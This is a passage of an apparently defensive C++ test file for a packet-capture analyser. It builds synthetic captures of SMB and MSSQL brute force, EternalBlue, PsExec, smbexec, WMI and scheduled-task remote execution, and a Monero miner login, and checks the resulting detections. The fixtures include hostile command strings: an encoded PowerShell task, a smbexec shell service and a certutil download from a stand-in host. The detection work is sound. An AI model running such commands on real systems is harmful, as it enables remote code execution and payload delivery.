// Reassembly, SMB and TDS sessions, and the findings made of them, on captures the tests write (support/pcap_writer):
// the scenarios of the write-ups that no public capture has in this shape.
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <optional>

#include <gtest/gtest.h>

#include "core/mapped_file.h"
#include "detect/heuristics/network_mining.h"
#include "detect/heuristics/network_smb.h"
#include "formats/pcap/reassembly.h"
#include "formats/pcap/smb.h"
#include "formats/pcap/tds.h"
#include "normalize/pcap_flows.h"
#include "support/pcap_writer.h"

namespace msw::formats::pcap {
namespace {
namespace fs = std::filesystem;
using test::CaptureWriter;
using test::TcpConversation;

std::string collect(TcpStream& s, const std::vector<std::pair<uint32_t, std::string>>& segments, uint64_t* gaps = nullptr) {
  std::string out;
  for (const auto& [seq, data] : segments)
    s.add(seq, false, as_bytes(data), [&](const TcpStream::Chunk& c) {
      if (gaps) *gaps += c.gap;
      out.append(as_chars(c.data));
      return true;
    });
  return out;
}

TEST(TcpStream, OrderRetransmissionOverlapAndHoles) {
  ReassemblyCounters counters;
  TcpStream s;
  s.set_counters(&counters);
  bool syn_seen = false;
  s.add(999, true, {}, [&](const TcpStream::Chunk&) { return syn_seen = true; });
  // Out of order, a retransmission, an overlap with different bytes (the first copy wins), wrapping is not special.
  EXPECT_EQ(collect(s, {{1005, "world"}, {1000, "hello"}, {1000, "hello"}, {1008, "XXnext"}}), "helloworldnext");
  EXPECT_FALSE(syn_seen);  // a SYN carries no bytes
  EXPECT_EQ(counters.segment_overlaps, 1u);
  EXPECT_EQ(s.delivered(), 14u);

  // A hole that never fills: after kMaxPendingSegments waiting segments the stream skips it and says how big it was.
  TcpStream h;
  h.set_counters(&counters);
  std::vector<std::pair<uint32_t, std::string>> segs = {{0xFFFFFFF0u, "a"}};  // starts just before the wrap
  for (uint32_t i = 0; i <= kMaxPendingSegments; ++i) segs.push_back({0xFFFFFFF0u + 100 + i, "b"});
  uint64_t gaps = 0;
  const std::string got = collect(h, segs, &gaps);
  EXPECT_EQ(got, "a" + std::string(kMaxPendingSegments + 1, 'b'));
  EXPECT_EQ(gaps, 99u);
  EXPECT_EQ(counters.stream_holes, 1u);

  // A sink that has seen enough closes the direction; later segments cost nothing.
  TcpStream c;
  int calls = 0;
  for (uint32_t i = 0; i < 5; ++i)
    c.add(i, false, as_bytes(std::string_view("x")), [&](const TcpStream::Chunk&) { return ++calls < 2; });
  EXPECT_EQ(calls, 2);
  EXPECT_TRUE(c.closed());
}

Decoded fragment(uint32_t id, uint32_t offset, bool more, const std::string& data) {
  Decoded d;
  d.src = *parse_ip("10.0.0.1");
  d.dst = *parse_ip("10.0.0.2");
  d.protocol = 17;
  d.fragment = true;
  d.fragment_id = id;
  d.fragment_offset = offset;
  d.more_fragments = more;
  d.fragment_data = as_bytes(data);
  return d;
}

TEST(FragmentReassembler, OutOfOrderOverlapTimeoutAndLimits) {
  ReassemblyCounters c;
  FragmentReassembler r(c);
  const std::string a(16, 'a'), b(16, 'b'), bad(8, 'X'), tail = "tail";
  EXPECT_FALSE(r.add(fragment(7, 32, false, tail), 0));
  EXPECT_FALSE(r.add(fragment(7, 0, true, a), 1));
  EXPECT_FALSE(r.add(fragment(7, 8, true, bad), 2));  // overlaps 'a': the first copy is kept
  auto whole = r.add(fragment(7, 16, true, b), 3);
  ASSERT_TRUE(whole);
  EXPECT_EQ(std::string(as_chars(*whole)), a + b + tail);
  EXPECT_EQ(c.fragment_overlaps, 1u);
  EXPECT_EQ(c.datagrams, 1u);
  // A datagram whose end moves, and one past 64 KiB, are dropped; so is one that never completes.
  EXPECT_FALSE(r.add(fragment(8, 16, false, a), 10));
  EXPECT_FALSE(r.add(fragment(8, 0, false, a), 11));
  EXPECT_FALSE(r.add(fragment(9, 65528, true, a), 12));
  EXPECT_FALSE(r.add(fragment(10, 0, true, a), 13));
  EXPECT_FALSE(r.add(fragment(11, 0, true, a), 13 + kFragmentTimeoutNs + 1));  // expires 10
  EXPECT_FALSE(r.add(fragment(10, 16, false, b), 14 + kFragmentTimeoutNs + 2));
  EXPECT_GE(c.fragments_dropped, 4u);
}

normalize::CaptureFlows flows_of(const std::string& bytes, unsigned threads = 0) {
  Diagnostics d;
  auto flows = normalize::capture_flows(as_bytes(bytes), "gen.pcap", d, {}, threads);
  EXPECT_TRUE(flows);
  return flows ? std::move(*flows) : normalize::CaptureFlows{};
}

std::vector<model::Finding> findings_of(const normalize::CaptureFlows& flows) {
  std::vector<model::Finding> out;
  for (auto make : {detect::heuristics::make_network_mining_engine, detect::heuristics::make_network_smb_engine})
    make()->scan_artefact({"gen.pcap", "", "packet_capture", "", "", flows.flows}, out);
  return out;
}

const model::Finding* find_rule(const std::vector<model::Finding>& all, std::string_view rule) {
  for (const auto& f : all)
    if (f.rule_id == rule) return &f;
  return nullptr;
}

// An SMB2 brute force as WannaMine's spreader runs it: one connection per guess (negotiate, NTLM negotiate,
// challenge, AUTHENTICATE, STATUS_LOGON_FAILURE), some answered STATUS_PASSWORD_EXPIRED, then a success.
TEST(PcapSessions, Smb2BruteForceEndingInSuccess) {
  CaptureWriter w;
  auto attempt = [&](uint16_t port, std::string_view user, uint32_t status) {
    TcpConversation c(w, "10.1.1.50", port, "10.1.1.10", 445);
    c.handshake();
    c.client(test::smb2_negotiate_request());
    c.server(test::smb2_negotiate_response(0x0302));
    c.client(test::smb2_session_setup_request(1, test::ntlm_negotiate()));
    c.server(test::smb2_session_setup_response(1, ntstatus::kMoreProcessingRequired));
    c.client(test::smb2_session_setup_request(2, test::ntlm_authenticate("CORP", user)), 100);  // cut in segments
    c.server(test::smb2_session_setup_response(2, status));
    c.close();
  };
  for (uint16_t i = 0; i < 12; ++i) attempt(static_cast<uint16_t>(50000 + i), "administrator", ntstatus::kLogonFailure);
  for (uint16_t i = 0; i < 3; ++i) attempt(static_cast<uint16_t>(50100 + i), "backup", ntstatus::kPasswordExpired);
  attempt(50200, "backup", ntstatus::kSuccess);
  // Two mistakes from another workstation are not guessing.
  for (uint16_t i = 0; i < 2; ++i) {
    TcpConversation c(w, "10.1.1.77", static_cast<uint16_t>(40000 + i), "10.1.1.10", 445);
    c.handshake();
    c.client(test::smb2_session_setup_request(2, test::ntlm_authenticate("CORP", "alice")));
    c.server(test::smb2_session_setup_response(2, ntstatus::kLogonFailure));
  }
  const auto flows = flows_of(w.pcap());
  ASSERT_EQ(flows.flows.size(), 18u);
  const model::Event& first = flows.flows[0];
  EXPECT_EQ(first.value("SmbDialect"), "3.0.2");
  EXPECT_EQ(first.value("Service"), "smb");
  EXPECT_EQ(first.value("ConnState"), "SF");
  EXPECT_EQ(first.value("LoginAccounts"), "CORP\\administrator");
  EXPECT_EQ(first.value("LoginFailureStatuses"), "STATUS_LOGON_FAILURE=1");
  EXPECT_EQ(flows.flows[15].value("LoginSuccessAccount"), "CORP\\backup");

  const auto found = findings_of(flows);
  ASSERT_EQ(found.size(), 1u) << found[0].title_en;
  EXPECT_EQ(found[0].rule_id, detect::heuristics::kWireBruteForceRule);
  EXPECT_EQ(found[0].severity, model::Severity::Critical);
  EXPECT_EQ(found[0].title_en,
            "15 failed SMB logons from 10.1.1.50 to 10.1.1.10, then a successful logon as CORP\\backup");
  EXPECT_NE(found[0].description_en.find("STATUS_PASSWORD_EXPIRED ×3"), std::string::npos);
  EXPECT_NE(found[0].description_en.find("password had expired"), std::string::npos);
}

// MyKings' MSSQL brute force: LOGIN7 as sa answered 18456, twenty times, then LOGINACK; one more connection whose
// LOGIN7 is TLS-encrypted still counts, from the clear error message.
TEST(PcapSessions, TdsBurstOf18456ThenSuccess) {
  CaptureWriter w;
  auto attempt = [&](uint16_t port, bool ok, bool encrypted) {
    TcpConversation c(w, "203.0.113.9", port, "10.2.0.5", 1433);
    c.handshake();
    c.client(test::tds_prelogin());
    c.server(test::tds_prelogin());
    if (encrypted) c.client(std::string("\x17\x03\x03\x00\x20", 5) + std::string(32, '\x99'));
    else c.client(test::tds_login7("sa", "WIN-7K2", "OSQL-32"));
    c.server(ok ? test::tds_login_ack() : test::tds_login_failed("sa"));
    c.close();
  };
  for (uint16_t i = 0; i < 20; ++i) attempt(static_cast<uint16_t>(30000 + i), false, false);
  attempt(30100, false, true);
  attempt(30200, true, false);
  const auto flows = flows_of(w.pcapng());
  ASSERT_EQ(flows.flows.size(), 22u);
  EXPECT_EQ(flows.flows[0].value("TdsClientApp"), "OSQL-32");
  EXPECT_EQ(flows.flows[0].value("TdsClientHost"), "WIN-7K2");
  EXPECT_EQ(flows.flows[0].value("LoginFailureStatuses"), "18456=1");
  EXPECT_EQ(flows.flows[20].value("TdsEncryptedLogin"), "true");
  EXPECT_EQ(flows.flows[20].value("LoginAccounts"), "sa");  // from "Login failed for user 'sa'."
  const auto found = findings_of(flows);
  const model::Finding* f = find_rule(found, detect::heuristics::kWireBruteForceRule);
  ASSERT_TRUE(f);
  EXPECT_EQ(f->title_en, "21 failed MSSQL logons from 203.0.113.9 to 10.2.0.5, then a successful logon as sa");
  EXPECT_FALSE(find_rule(found, detect::heuristics::kLoginBurstRule)) << "the exact count replaces the connection count";
}

// EternalBlue as the worms send it, against an SMB1 server: dialect, the MS17-010 check, the oversized NT Trans and
// its Trans2 SECONDARY continuation, then DoublePulsar's ping answered by the implant.
TEST(PcapSessions, EternalBlueDoublePulsarAndSmb1) {
  CaptureWriter w;
  TcpConversation c(w, "192.168.5.20", 49200, "192.168.5.31", 445);
  c.handshake();
  c.client(test::smb1_negotiate_request({"PC NETWORK PROGRAM 1.0", "LANMAN1.0", "NT LM 0.12"}));
  c.server(test::smb1_negotiate_response(2));
  c.client(test::smb1_session_setup_request(2, ""));  // the null session EternalBlue uses
  c.server(test::smb1_session_setup_response(2, 0));
  c.client(test::smb1_peek_named_pipe_request(3));
  c.server(test::smb1_trans_response(3, ntstatus::kInsuffServerResources));
  c.client(test::smb1_nt_trans_request(4, 66512));
  for (int i = 0; i < 3; ++i) c.client(test::smb1_trans2_secondary_request(4));
  c.client(test::smb1_trans2_session_setup_request(65));
  c.server(test::smb1_trans2_response(81, ntstatus::kNotImplemented));
  c.close();
  const auto flows = flows_of(w.pcap());
  ASSERT_EQ(flows.flows.size(), 1u);
  const model::Event& e = flows.flows[0];
  EXPECT_EQ(e.value("SmbDialect"), "NT LM 0.12");
  EXPECT_EQ(e.value("SmbVersion1"), "true");
  EXPECT_EQ(e.value("SmbNtTransMaxData"), "66512");
  EXPECT_EQ(e.value("SmbTrans2Secondary"), "3");
  EXPECT_EQ(e.value("SmbMs17010Check"), "vulnerable");
  EXPECT_EQ(e.value("SmbDoublePulsar"), "implant answered");
  EXPECT_FALSE(e.get("LoginService") && e.value("LoginFailures") != "0") << "a null session is nobody's logon";
  const auto found = findings_of(flows);
  for (auto rule : {detect::heuristics::kEternalBlueRule, detect::heuristics::kDoublePulsarRule,
                    detect::heuristics::kMs17010VulnerableRule, detect::heuristics::kSmb1Rule})
    EXPECT_TRUE(find_rule(found, rule)) << rule;
  EXPECT_EQ(find_rule(found, detect::heuristics::kEternalBlueRule)->title_en,
            "EternalBlue (MS17-010) exploitation from 192.168.5.20 against 192.168.5.31");
  EXPECT_EQ(find_rule(found, detect::heuristics::kDoublePulsarRule)->severity, model::Severity::Critical);

  // A normal SMB2 session and an SMB1 client with a plain NT Trans are none of these.
  CaptureWriter n;
  TcpConversation ok(n, "192.168.5.21", 49300, "192.168.5.31", 445);
  ok.handshake();
  ok.client(test::smb2_negotiate_request());
  ok.server(test::smb2_negotiate_response(0x0311));
  ok.client(test::smb1_nt_trans_request(9, 1024));
  ok.close();
  EXPECT_TRUE(findings_of(flows_of(n.pcap())).empty());
}

// PsExec as it crosses the wire (SMB 2): the program written to ADMIN$, then the Service Control Manager asked
// through \PIPE\svcctl to create and start a service that runs it.
void psexec_like(CaptureWriter& w, const std::string& src, const std::string& dst, const std::string& service,
                 const std::string& binary, bool copy) {
  TcpConversation c(w, src, 49731, dst, 445);
  c.handshake();
  c.client(test::smb2_negotiate_request());
  c.server(test::smb2_negotiate_response(0x0210));
  c.client(test::smb2_session_setup_request(1, test::ntlm_authenticate("CORP", "backup")));
  c.server(test::smb2_session_setup_response(1, ntstatus::kSuccess));
  const std::string exe_id(16, '\xA1'), pipe_id(16, '\xB2');
  if (copy) {
    c.client(test::smb2_tree_connect_request(2, "\\\\" + dst + "\\ADMIN$"));
    c.server(test::smb2_tree_connect_response(2, 5, 1));
    c.client(test::smb2_create_request(3, 5, service + ".exe"));
    c.server(test::smb2_create_response(3, 5, exe_id));
    c.client(test::smb2_write_request(4, 5, exe_id, 0, "MZ\x90" + std::string(3000, 'A')));
    c.client(test::smb2_write_request(5, 5, exe_id, 3003, std::string(1000, 'B')));
  }
  c.client(test::smb2_tree_connect_request(6, "\\\\" + dst + "\\IPC$"));
  c.server(test::smb2_tree_connect_response(6, 7, 2));
  c.client(test::smb2_create_request(7, 7, "svcctl"));
  c.server(test::smb2_create_response(7, 7, pipe_id));
  const std::string svcctl = "367abb81-9844-35f1-ad32-98f038001003";
  c.client(test::smb2_ioctl_transceive_request(8, 7, pipe_id, test::dcerpc_bind(1, {{0, svcctl, 2}})));
  c.client(test::smb2_ioctl_transceive_request(
      9, 7, pipe_id, test::dcerpc_request(2, 0, 12, test::svcctl_create_service_stub(service, service, binary))));
  c.client(test::smb2_ioctl_transceive_request(10, 7, pipe_id,
                                               test::dcerpc_request(3, 0, 19, test::svcctl_start_service_stub())));
  c.close();
}

// tshark's reading of the same capture, one line per packet matching `filter`, `fields` tab-separated; nullopt
// when tshark is not installed (scripts/setup.sh --dev installs it).
std::optional<std::vector<std::string>> tshark(const std::string& capture, const std::string& filter,
                                               const std::string& fields) {
  if (std::system("command -v tshark >/dev/null 2>&1") != 0) return std::nullopt;
  const fs::path dir = fs::temp_directory_path() / ("msw-tshark-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  std::ofstream(dir / "c.pcap", std::ios::binary) << capture;
  std::string cmd = "tshark -n -r " + (dir / "c.pcap").string() + " -Y '" + filter + "' -T fields";
  for (size_t p = 0; p < fields.size();) {
    const size_t q = std::min(fields.find(',', p), fields.size());
    cmd += " -e " + fields.substr(p, q - p);
    p = q + 1;
  }
  cmd += " 2>/dev/null > " + (dir / "out.txt").string();
  const int rc = std::system(cmd.c_str());
  std::vector<std::string> lines;
  std::ifstream in(dir / "out.txt");
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  fs::remove_all(dir);
  if (rc != 0) return std::nullopt;
  return lines;
}

TEST(PcapSessions, PsExecStyleRemoteExecutionOverSmb2) {
  CaptureWriter w;
  psexec_like(w, "10.1.1.50", "10.1.1.10", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", true);
  const std::string capture = w.pcap();
  const auto flows = flows_of(capture);
  ASSERT_EQ(flows.flows.size(), 1u);
  const model::Event& e = flows.flows[0];
  EXPECT_EQ(e.value("SmbAdminShareWrites"), "\\\\10.1.1.10\\ADMIN$\\PSEXESVC.exe (4003 bytes, executable, packet 14)");
  EXPECT_EQ(e.value("SmbPipes"), "svcctl");
  EXPECT_EQ(e.value("RpcCalls"),
            "svcctl CreateServiceW: PSEXESVC | PSEXESVC | %SystemRoot%\\PSEXESVC.exe; svcctl StartServiceW");
  const auto found = findings_of(flows);
  const auto* x = find_rule(found, detect::heuristics::kRemoteExecutionRule);
  ASSERT_TRUE(x);
  EXPECT_EQ(x->severity, model::Severity::High);
  EXPECT_EQ(x->title_en,
            "10.1.1.50 ran code on 10.1.1.10: PsExec-style remote execution (a program copied to an administrative "
            "share, then run as a service), service PSEXESVC: %SystemRoot%\\PSEXESVC.exe");
  EXPECT_EQ(x->attack, (std::vector<std::string>{"T1021.002", "T1569.002", "T1570"}));
  EXPECT_FALSE(find_rule(found, detect::heuristics::kWireBruteForceRule));

  // The oracle: tshark reads the same service, binary path, share, file and byte count.
  const auto services = tshark(capture, "svcctl.opnum == 12", "ip.src,ip.dst,svcctl.servicename,svcctl.binarypathname");
  if (!services) {
    std::cout << "tshark not installed: the oracle half of this test did not run\n";
    return;
  }
  ASSERT_EQ(services->size(), 1u);
  EXPECT_EQ((*services)[0], "10.1.1.50\t10.1.1.10\tPSEXESVC\t%SystemRoot%\\PSEXESVC.exe");
  EXPECT_EQ(*tshark(capture, "smb2.cmd == 3 && smb2.flags.response == 0", "smb2.tree"),
            (std::vector<std::string>{"\\\\10.1.1.10\\ADMIN$", "\\\\10.1.1.10\\IPC$"}));
  EXPECT_EQ(*tshark(capture, "smb2.cmd == 5 && smb2.flags.response == 0", "smb2.filename"),
            (std::vector<std::string>{"PSEXESVC.exe", "svcctl"}));
  uint64_t written = 0;
  const auto writes = tshark(capture, "smb2.cmd == 9", "smb2.write_length");
  for (const auto& line : *writes) written += std::stoull(line);
  EXPECT_EQ(written, 4003u);
}

TEST(PcapSessions, SmbexecTaskAndWmiRemoteExecution) {
  CaptureWriter w;
  // impacket's smbexec: no file, a service whose binary is a command shell.
  psexec_like(
      w, "10.1.1.51", "10.1.1.11", "BTOBTO",
      "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c "
      "%TEMP%\\execute.bat & del %TEMP%\\execute.bat",
      false);
  // A task registered through the Task Scheduler's RPC on a dynamic port, and WMI's ExecMethod.
  const std::string xml =
      "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c powershell -enc SQBFAFgA"
      "</Arguments></Exec></Actions></Task>";
  TcpConversation t(w, "10.1.1.52", 50001, "10.1.1.12", 49667);
  t.handshake();
  t.client(test::dcerpc_bind(1, {{0, "86d35949-83c9-4044-b424-db363231fd0c", 1}}));
  t.client(test::dcerpc_request(2, 0, 1, test::tsch_register_task_stub("\\Updater", xml)));
  t.close();
  TcpConversation m(w, "10.1.1.53", 50002, "10.1.1.13", 49668);
  m.handshake();
  m.client(test::dcerpc_bind(1, {{0, "9556dc99-828c-11cf-a37e-00aa003240c7", 0}}));
  m.client(test::dcerpc_request(2, 0, 24,
                                test::utf16le("Win32_Process") + std::string(4, '\0') + test::utf16le("Create") +
                                    std::string(2, '\0') + "cmd.exe /c certutil -urlcache -f http://x/a.exe"));
  m.close();
  const auto found = findings_of(flows_of(w.pcap()));
  std::map<std::string, std::string> by_target;
  for (const auto& f : found)
    if (f.rule_id == detect::heuristics::kRemoteExecutionRule) by_target[f.observables.at(1).value] = f.title_en;
  ASSERT_EQ(by_target.size(), 3u);
  EXPECT_NE(
      by_target["10.1.1.11"].find("smbexec-style remote execution (a command shell as a service), service BTOBTO"),
      std::string::npos)
      << by_target["10.1.1.11"];
  EXPECT_NE(by_target["10.1.1.12"].find("remote execution through RPC (scheduled task)"), std::string::npos)
      << by_target["10.1.1.12"];
  EXPECT_NE(by_target["10.1.1.13"].find("remote execution through RPC (WMI ExecMethod)"), std::string::npos)
      << by_target["10.1.1.13"];
  for (const auto& f : found) {
    if (f.observables.size() > 1 && f.observables[1].value == "10.1.1.13") {
      EXPECT_NE(f.description_en.find("certutil -urlcache"), std::string::npos) << f.description_en;
    }
  }
}

// EternalBlue grooms the server with a score of SMB connections that log nobody on: no password guessing.
// Browsing a file share and listing shares through srvsvc run nothing.
TEST(PcapSessions, GroomingConnectionsAndOrdinarySharesAreNoGuessingOrExecution) {
  CaptureWriter w;
  for (int i = 0; i < 20; ++i) {
    TcpConversation g(w, "192.168.5.20", static_cast<uint16_t>(50100 + i), "192.168.5.31", 445);
    g.handshake();
    g.client(test::smb1_negotiate_request({"NT LM 0.12"}));
    g.server(test::smb1_negotiate_response(0));
    g.close();
  }
  TcpConversation c(w, "10.2.2.2", 50200, "10.2.2.9", 445);
  c.handshake();
  c.client(test::smb2_negotiate_request());
  c.server(test::smb2_negotiate_response(0x0311));
  c.client(test::smb2_session_setup_request(1, test::ntlm_authenticate("CORP", "alice")));
  c.server(test::smb2_session_setup_response(1, ntstatus::kSuccess));
  c.client(test::smb2_tree_connect_request(2, "\\\\fs01\\public"));
  c.server(test::smb2_tree_connect_response(2, 3, 1));
  const std::string id(16, '\x01');
  c.client(test::smb2_create_request(3, 3, "report.exe"));
  c.server(test::smb2_create_response(3, 3, id));
  c.client(test::smb2_write_request(4, 3, id, 0, "MZ" + std::string(100, 'x')));
  c.close();
  const auto found = findings_of(flows_of(w.pcap()));
  for (const auto& f : found)
    EXPECT_TRUE(f.rule_id != detect::heuristics::kWireBruteForceRule &&
                f.rule_id != detect::heuristics::kLoginBurstRule &&
                f.rule_id != detect::heuristics::kRemoteExecutionRule)
        << f.title_en;
}

// EternalRomance/EternalSynergy: a transaction left waiting for its data, and a WRITE_ANDX slipped into it. A client
// that finishes its transaction before writing (same MID, reused) is no exploit.
TEST(PcapSessions, EternalRomanceWriteInsideATransaction) {
  CaptureWriter w;
  TcpConversation c(w, "192.168.5.20", 49300, "192.168.5.32", 445);
  c.handshake();
  c.client(test::smb1_negotiate_request({"NT LM 0.12"}));
  c.server(test::smb1_negotiate_response(0));
  c.client(test::smb1_trans_request(40, 4096, std::string(16, 'A')));  // 16 of 4096 bytes: waits for the rest
  c.client(test::smb1_write_andx_request(40, std::string(64, 'B')));
  c.close();
  auto found = findings_of(flows_of(w.pcap()));
  const auto* x = find_rule(found, detect::heuristics::kEternalRomanceRule);
  ASSERT_TRUE(x);
  EXPECT_EQ(x->severity, model::Severity::Critical);
  EXPECT_EQ(x->title_en,
            "EternalRomance/EternalSynergy (MS17-010) exploitation from 192.168.5.20 against 192.168.5.32");

  CaptureWriter ok;
  TcpConversation d(ok, "192.168.5.21", 49301, "192.168.5.32", 445);
  d.handshake();
  d.client(test::smb1_negotiate_request({"NT LM 0.12"}));
  d.server(test::smb1_negotiate_response(0));
  d.client(test::smb1_trans_request(41, 16, std::string(16, 'A')));  // complete in one message
  d.server(test::smb1_trans_response(41, 0));
  d.client(test::smb1_write_andx_request(41, std::string(64, 'B')));
  d.close();
  found = findings_of(flows_of(ok.pcap()));
  EXPECT_FALSE(find_rule(found, detect::heuristics::kEternalRomanceRule));
}

// A worm's 445 sweep: SYNs to 40 addresses, most refused; the scan is one finding with its rate.
TEST(PcapSessions, SmbScanWithRefusedConnections) {
  CaptureWriter w;
  for (int host = 1; host <= 40; ++host) {
    TcpConversation c(w, "10.9.0.66", static_cast<uint16_t>(45000 + host), "10.9.1." + std::to_string(host), 445);
    if (host % 4) c.refused();
    else c.handshake();
  }
  const auto flows = flows_of(w.pcap());
  ASSERT_EQ(flows.flows.size(), 40u);
  EXPECT_EQ(flows.flows[0].value("ConnState"), "REJ");
  EXPECT_EQ(flows.flows[3].value("ConnState"), "S1");
  const auto found = findings_of(flows);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].title_en, "10.9.0.66 opened SMB to 40 addresses (worm spreading)");
}

// A TLS ClientHello bigger than one segment, arriving out of order, still gives the pool's name and JA3; a stratum
// login inside fragmented IP datagrams is still read.
TEST(PcapSessions, SplitClientHelloAndFragmentedLogin) {
  std::string hello;
  {
    // ClientHello with SNI and a 1,500-byte padding extension (as large key shares make them).
    std::string ext_sni, body;
    const std::string name = "pool.supportxmr.com";
    auto be16 = [](std::string& s, size_t v) {
      s += static_cast<char>((v >> 8) & 0xFF);
      s += static_cast<char>(v & 0xFF);
    };
    be16(ext_sni, 0);
    be16(ext_sni, name.size() + 5);
    be16(ext_sni, name.size() + 3);
    ext_sni += '\0';
    be16(ext_sni, name.size());
    ext_sni += name;
    std::string pad;
    be16(pad, 21);
    be16(pad, 1500);
    pad += std::string(1500, '\0');
    body += "\x03\x03" + std::string(32, '\x01') + '\0';
    be16(body, 2);
    body += "\x13\x01";
    body += '\x01';  // one compression method: null
    body += '\0';
    be16(body, ext_sni.size() + pad.size());
    body += ext_sni + pad;
    std::string hs = "\x01";
    hs += '\0';
    be16(hs, body.size());
    hello = "\x16\x03\x01";
    be16(hello, hs.size() + body.size());
    hello += hs + body;
  }
  CaptureWriter w;
  TcpConversation tls(w, "10.0.0.8", 43000, "198.51.100.20", 443);
  tls.handshake();
  tls.client_reordered(hello, 700);
  const std::string login = R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4)" + std::string(94, 'A') +
                            R"j(","pass":"x","agent":"XMRig/6.22.2 (Windows NT 10.0; Win64; x64)","algo":["rx/0"]}})j" "\n";
  const std::string l4 = test::tcp_segment(50001, 3333, 7000, 0, 0x18, login);
  // Three fragments, the last first.
  w.frame(test::ipv4_frame("10.0.0.8", "198.51.100.30", 6, std::string_view(l4).substr(192), 77, 192, false));
  w.frame(test::ipv4_frame("10.0.0.8", "198.51.100.30", 6, std::string_view(l4).substr(0, 96), 77, 0, true));
  w.frame(test::ipv4_frame("10.0.0.8", "198.51.100.30", 6, std::string_view(l4).substr(96, 96), 77, 96, true));
  const auto flows = flows_of(w.pcap());
  ASSERT_EQ(flows.flows.size(), 2u);
  EXPECT_EQ(flows.flows[0].value("DestinationHostname"), "pool.supportxmr.com");
  EXPECT_EQ(flows.flows[0].value("Service"), "ssl");
  EXPECT_EQ(flows.flows[1].value("MiningProtocol"), "monero-stratum");
  EXPECT_EQ(flows.flows[1].value("MiningAgent"), "XMRig/6.22.2 (Windows NT 10.0; Win64; x64)");
  EXPECT_EQ(flows.reassembly.datagrams, 1u);
}

// Splitting flows over threads changes nothing in the result.
TEST(PcapSessions, ThreadCountDoesNotChangeFlows) {
  std::vector<std::string> captures;
  {
    CaptureWriter w;
    for (int i = 0; i < 200; ++i) {
      TcpConversation c(w, "10.3.0." + std::to_string(i % 50), static_cast<uint16_t>(20000 + i), "10.3.1.1",
                        i % 2 ? 445 : 1433);
      c.handshake();
      c.client(i % 2 ? test::smb2_negotiate_request() : test::tds_login7("sa", "h", "a"));
      c.close();
    }
    captures.push_back(w.pcap());
  }
  const fs::path corpus = fs::path(MSW_CORPUS_DIR) / "pcap/ndpi/tests/cfgs/default/pcap/mining.pcapng";
  if (fs::exists(corpus)) {
    auto f = MappedFile::open(corpus.string());
    ASSERT_TRUE(f);
    captures.emplace_back(as_chars(f->bytes()));
  }
  for (const auto& bytes : captures) {
    const auto one = flows_of(bytes, 1), two = flows_of(bytes, 2), four = flows_of(bytes, 4);
    ASSERT_EQ(one.flows.size(), two.flows.size());
    ASSERT_EQ(one.flows.size(), four.flows.size());
    for (size_t i = 0; i < one.flows.size(); ++i) {
      EXPECT_EQ(one.flows[i].fields, two.flows[i].fields);
      EXPECT_EQ(one.flows[i].extra, four.flows[i].extra);
    }
  }
}

// Hostile bytes straight into the session parsers: nothing is read past a message, lists stay capped.
TEST(PcapSessions, HostileSmbAndTdsMessages) {
  SmbSession smb;
  for (int i = 0; i < 1000; ++i) {
    smb.message(true, as_bytes(std::string("\xffSMB\x73", 5) + std::string(40, '\xff')), 0, 0);
    smb.message(false, as_bytes(std::string("\xfeSMB", 4) + std::string(60, '\0') + std::string(8, '\xff')), 0, 0);
  }
  EXPECT_LE(smb.facts().logins.size(), kMaxSmbLoginsKept);
  // An NTLM AUTHENTICATE whose fields point outside it names nobody.
  std::string auth("NTLMSSP\0\x03\0\0\0", 12);
  auth += std::string(52, '\xff');
  EXPECT_FALSE(ntlm_authenticate_account(as_bytes(auth)));
  TdsSession tds;
  tds.packet(true, as_bytes(std::string("\x10\x01\x00\x40\0\0\x01\0", 8) + std::string(56, '\xff')), 0, 0);
  tds.packet(false, as_bytes(std::string("\x04\x01\x00\x10\0\0\x01\0\xaa\xff\xff", 11) + std::string(5, '\0')), 0, 0);
  EXPECT_TRUE(tds.facts().logins.empty());
}

}  // namespace
}  // namespace msw::formats::pcap

namespace msw::formats::pcap {
namespace {

// Zeek's SMB test captures: the dialects, accounts and answers tshark shows for them (checked with
// `tshark -Y "ntlmssp.messagetype==3 || smb2.dialect || smb.dialect.index"`; the success packet is the server's
// answer), and no exploitation or guessing
// finding anywhere in the public captures except the DoublePulsar check nDPI's smbv1.pcap really contains.
TEST(PcapCorpus, ZeekSmbSessionsAgreeWithTshark) {
  const fs::path root = fs::path(MSW_CORPUS_DIR) / "pcap";
  if (!fs::exists(root)) GTEST_SKIP() << "corpus not present";
  const fs::path smb = root / "zeek/testing/btest/Traces/smb";
  struct Expect {
    const char* file;
    const char* dialect;
    const char* account;
    const char* success_packet;
  };
  for (const Expect& e : {Expect{"smb2.pcap", "2.0.2", "CONTOSO\\Administrator", "9"},
                          Expect{"raw_ntlm_in_smb.pcap", "NT LM 0.12", "TEST-F7DFBC3FE9\\test", "23"},
                          Expect{"smb3.pcap", "3.0", "SUSE\\administrator", "6"},
                          Expect{"cifs_negotiate_lanman.pcap", "LANMAN2.1", "", ""},
                          Expect{"smb_v2_only_non_zero_reserved1.pcap", "3.1.1", "WIN-I82B81NSLLJ\\Administrator", ""}}) {
    auto file = MappedFile::open((smb / e.file).string());
    ASSERT_TRUE(file) << e.file;
    Diagnostics d;
    auto flows = normalize::capture_flows(file->bytes(), e.file, d);
    ASSERT_TRUE(flows) << e.file;
    auto smb_flow = std::find_if(flows->flows.begin(), flows->flows.end(),
                                 [](const model::Event& ev) { return ev.get("SmbDialect") != nullptr; });
    ASSERT_NE(smb_flow, flows->flows.end()) << e.file;
    const model::Event& f = *smb_flow;
    EXPECT_EQ(f.value("SmbDialect"), e.dialect) << e.file;
    EXPECT_EQ(f.value("LoginAccounts"), e.account) << e.file;
    if (*e.success_packet) {
      EXPECT_EQ(f.value("LoginSuccessPacket"), e.success_packet) << e.file;
    }
  }
  std::map<std::string, size_t> rules;
  size_t captures = 0;
  for (fs::recursive_directory_iterator it(root), end; it != end; ++it) {
    if (!it->is_regular_file()) continue;
    auto f = MappedFile::open(it->path().string());
    if (!f || !looks_like_capture(f->bytes())) continue;
